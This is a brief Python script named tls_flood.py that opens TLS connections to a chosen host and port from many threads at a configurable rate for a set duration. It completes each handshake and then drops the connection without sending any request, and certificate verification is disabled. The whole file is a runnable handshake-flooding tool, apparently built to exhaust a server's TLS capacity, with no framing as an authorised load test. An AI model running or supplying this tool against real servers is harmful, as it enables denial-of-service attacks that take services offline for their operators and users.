"""Makes TLS handshakes one after the other and never asks for anything. Call: tls_flood.py --host H --port P --threads N --rate N --secs S"""

import argparse
import socket
import ssl
import threading
import time


def work(args, context, end):
    while time.monotonic() < end:
        began = time.monotonic()
        try:
            with socket.create_connection((args.host, args.port), 5) as connection:
                with context.wrap_socket(connection):
                    pass
        except OSError:
            pass
        time.sleep(max(0, args.threads / args.rate - (time.monotonic() - began)))


parser = argparse.ArgumentParser()
parser.add_argument("--host", required=True)
parser.add_argument("--port", type=int, required=True)
parser.add_argument("--threads", type=int, required=True)
parser.add_argument("--rate", type=float, required=True)
parser.add_argument("--secs", type=float, required=True)
args = parser.parse_args()
context = ssl.create_default_context()
context.check_hostname = False
context.verify_mode = ssl.CERT_NONE
end = time.monotonic() + args.secs
threads = [threading.Thread(target=work, args=(args, context, end)) for _ in range(args.threads)]
for thread in threads:
    thread.start()
for thread in threads:
    thread.join()
